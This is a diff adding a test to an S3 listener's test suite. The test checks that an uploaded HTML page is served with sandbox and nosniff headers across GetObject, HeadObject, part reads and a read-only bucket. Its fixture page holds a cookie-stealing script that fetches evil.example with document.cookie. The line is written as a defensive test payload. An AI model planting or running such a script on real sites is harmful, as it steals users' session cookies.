@@ -802,4 +802,29 @@ describe.each(["bun", "node"] as const)("the S3 listener on the %s engine", (eng
       T,
     );
   });
+
+  describe("user content", () => {
+    test(
+      "an uploaded page is answered sandboxed on the S3 front: GetObject, a part of it (partNumber, read straight from the upstream), HeadObject, and through a read-only bucket that reads the same store",
+      async () => {
+        const page = "<!doctype html><script>fetch('https://evil.example/?'+document.cookie)</script>";
+        expect((await signedFetch(env, { method: "PUT", path: "/up/site/page.html", body: page, headers: { "content-type": "text/html" } })).status).toBe(200);
+        const headersOf = async (path: string, method = "GET", query?: Array<[string, string]>) => {
+          const r = await signedFetch(env, { method, path, query });
+          const body = await r.text();
+          expect({ path, query, status: r.status, type: r.headers.get("content-type") }).toEqual({ path, query, status: method === "GET" && query ? 206 : 200, type: "text/html" });
+          if (method === "GET") expect(body).toBe(page);
+          return [r.headers.get("content-security-policy"), r.headers.get("x-content-type-options")];
+        };
+        const sandbox = ["sandbox", "nosniff"];
+        expect(await headersOf("/up/site/page.html")).toEqual(sandbox);
+        expect(await headersOf("/up/site/page.html", "HEAD")).toEqual(sandbox);
+        expect(await headersOf("/up/site/page.html", "GET", [["partNumber", "1"]])).toEqual(sandbox);
+        // bucket `ro` is read-only, on the store bucket `up` writes: what users upload is served through it too
+        expect(await headersOf("/ro/site/page.html")).toEqual(sandbox);
+        expect(await headersOf("/ro/site/page.html", "GET", [["partNumber", "1"]])).toEqual(sandbox);
+      },
+      T,
+    );
+  });
 });
